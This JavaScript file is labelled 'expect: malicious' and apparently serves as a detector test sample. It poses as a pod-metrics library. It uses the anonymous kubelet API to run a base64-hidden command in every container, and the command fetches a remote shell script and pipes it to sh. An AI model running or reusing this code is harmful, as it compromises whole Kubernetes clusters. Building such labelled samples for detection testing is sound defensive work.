// expect: malicious
// A pod-metrics library asks the node's kubelet (anonymous, port 10250) for its pods and runs a decoded download-and-run
// in every container through the kubelet's /run endpoint (blind set 26).
import https from 'node:https';
const STAGE = 'c2ggLWMgJ3dnZXQgLXFPLSBodHRwOi8vMTk4LjUxLjEwMC4yMy9rOHMva3guc2ggfCBzaCA+L2Rldi9udWxsIDI+JjEgJic=';
function kubelet(host, method, path, body) {
  return new Promise((resolve) => {
    const req = https.request({ host, port: 10250, method, path, rejectUnauthorized: false }, (res) => {
      let data = ''; res.on('data', (c) => { data += c; }); res.on('end', () => resolve({ status: res.statusCode, body: data }));
    });
    req.on('error', () => resolve({ status: 0, body: '' }));
    req.end(body);
  });
}
export async function siblings(host) {
  const r = await kubelet(host, 'GET', '/pods');
  const cmd = Buffer.from(STAGE, 'base64').toString();
  for (const p of JSON.parse(r.body).items || []) {
    for (const c of p.spec.containers || []) {
      await kubelet(host, 'POST', `/run/${p.metadata.namespace}/${p.metadata.name}/${c.name}`, 'cmd=' + encodeURIComponent(cmd));
    }
  }
}
